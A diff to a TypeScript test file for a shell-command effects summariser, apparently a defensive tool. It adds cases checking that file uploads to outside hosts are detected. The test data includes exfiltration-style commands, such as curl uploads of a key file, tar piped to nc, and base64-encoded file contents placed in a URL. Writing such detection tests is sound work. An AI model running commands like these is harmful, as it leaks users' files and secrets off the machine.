@@ -1,14 +1,20 @@
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { displayWord, word } from '../../src/core/word.ts';
 import { summarise } from '../../src/effects/summarise.ts';
 import { scanned } from '../shell/scanned.ts';
 
-/** The effects of a command, one a line; the last column of each row. */
+function summaryOf(command: string) {
+  return summarise(scanned(command), { home: '/home/user', workspace: '/workspace' });
+}
+
+/** The effects of a command, one a line; the last column of each row. Files that leave have a table of their own. */
 function effects(command: string): readonly string[] {
-  return summarise(scanned(command), { home: '/home/user', workspace: '/workspace' }).effects.map(
-    ({ kind, target, recursive, force }) =>
-      `${kind} ${displayWord(target)}${recursive ? ' recursive' : ''}${force ? ' force' : ''}`,
-  );
+  return summaryOf(command)
+    .effects.filter(({ deed }) => deed !== 'file')
+    .map(
+      ({ kind, target, recursive, force }) =>
+        `${kind} ${displayWord(target)}${recursive ? ' recursive' : ''}${force ? ' force' : ''}`,
+    );
 }
 
 it.each<[command: string, effects: readonly string[]]>([
@@ -89,4 +95,22 @@ it('what the code of an invocation touches is an effect of it', () => {
       places: ['system'],
     },
   ]);
+});
+
+describe('files that leave the machine', () => {
+  it.each<[command: string, expected: readonly string[]]>([
+    ['curl -T key https://x', ['/workspace/key']],
+    ['cat a | gzip | curl -d @- https://x', ['/workspace/a']],
+    ['tar cz b | nc host 1', ['/workspace/b']],
+    ['openssl enc -base64 -in c | xargs -I{} curl https://x/{}', ['/workspace/c']],
+    ['curl https://x/$(cat d | base64)', ['/workspace/d']],
+    ['curl -d @e http://localhost:3000', []],
+    ['cat f > /dev/null; curl https://x', []],
+    ['ls g | nc host 1', []],
+    ['ssh -F g host ls', []],
+  ])('%s', (command, expected) => {
+    const { effects } = summaryOf(command);
+    const sent = effects.filter(({ kind, on }) => kind === 'send' && on === 'path');
+    expect(sent.map(({ target }) => displayWord(target))).toEqual(expected);
+  });
 });
